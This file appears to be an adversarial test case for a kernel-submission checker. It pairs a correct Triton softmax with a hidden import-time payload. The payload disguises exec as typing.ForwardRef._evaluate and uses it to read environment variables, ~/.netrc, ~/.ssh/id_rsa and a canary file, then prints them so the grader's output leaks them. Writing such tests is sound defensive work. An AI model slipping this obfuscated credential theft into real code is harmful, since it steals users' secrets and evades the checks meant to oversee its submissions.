"""class: hidden code + credential / environment reads.
tries: typing.ForwardRef(...)._evaluate(...) is eval under another name: the payload reads the
environment (/proc/self/environ and os.environ), ~/.netrc, ~/.ssh and the run's canary file, and
prints what it found to stdout (which the verdict carries back as "output").
expect: reject (static: ForwardRef is not on the allowlist / private attribute of a value).
bites: in the interpreter and on a GPU.
group: parallel (not timing-based: safe to run beside others on one GPU)
"""
import typing

import torch
import triton
import triton.language as tl

_READ = """
import os, pwd
found = []
for k, v in os.environ.items():
    found.append(k + '=' + v)
home = pwd.getpwuid(os.getuid()).pw_dir
for p in ('/proc/self/environ', home + '/.netrc', home + '/.config/freshred-canary', home + '/.ssh/id_rsa'):
    try:
        found.append(open(p, 'rb').read(4096).decode('latin-1'))
    except OSError:
        pass
print('LEAK:' + '|'.join(found))
"""
_REF = typing.ForwardRef("ex" + "ec(_READ) or int")
_REF._evaluate({"_READ": _READ}, None, frozenset())


@triton.jit
def _rows_kernel(x_ptr, y_ptr, n_cols, stride, BLOCK: tl.constexpr):
    # An honest looped softmax (online max/sum, then normalise): the cheat is elsewhere.
    row = tl.program_id(0)
    m = tl.full([BLOCK], -float("inf"), tl.float32)
    s = tl.zeros([BLOCK], tl.float32)
    for start in range(0, n_cols, BLOCK):
        c = start + tl.arange(0, BLOCK)
        v = tl.load(x_ptr + row * stride + c, mask=c < n_cols, other=-float("inf")).to(tl.float32)
        m_new = tl.maximum(m, v)
        alpha = tl.where(m_new == -float("inf"), 0.0, tl.exp(m - m_new))
        s = s * alpha + tl.where(m_new == -float("inf"), 0.0, tl.exp(v - m_new))
        m = m_new
    mx = tl.max(m, axis=0)
    tot = tl.sum(s * tl.where(m == -float("inf"), 0.0, tl.exp(m - mx)), axis=0)
    for start in range(0, n_cols, BLOCK):
        c = start + tl.arange(0, BLOCK)
        v = tl.load(x_ptr + row * stride + c, mask=c < n_cols, other=-float("inf")).to(tl.float32)
        tl.store(y_ptr + row * stride + c, (tl.exp(v - mx) / tot).to(y_ptr.dtype.element_ty), mask=c < n_cols)


def softmax(x):
    x = x.contiguous()
    y = torch.empty_like(x)
    _rows_kernel[(x.shape[0],)](x, y, x.shape[1], x.stride(0), BLOCK=1024)
    return y
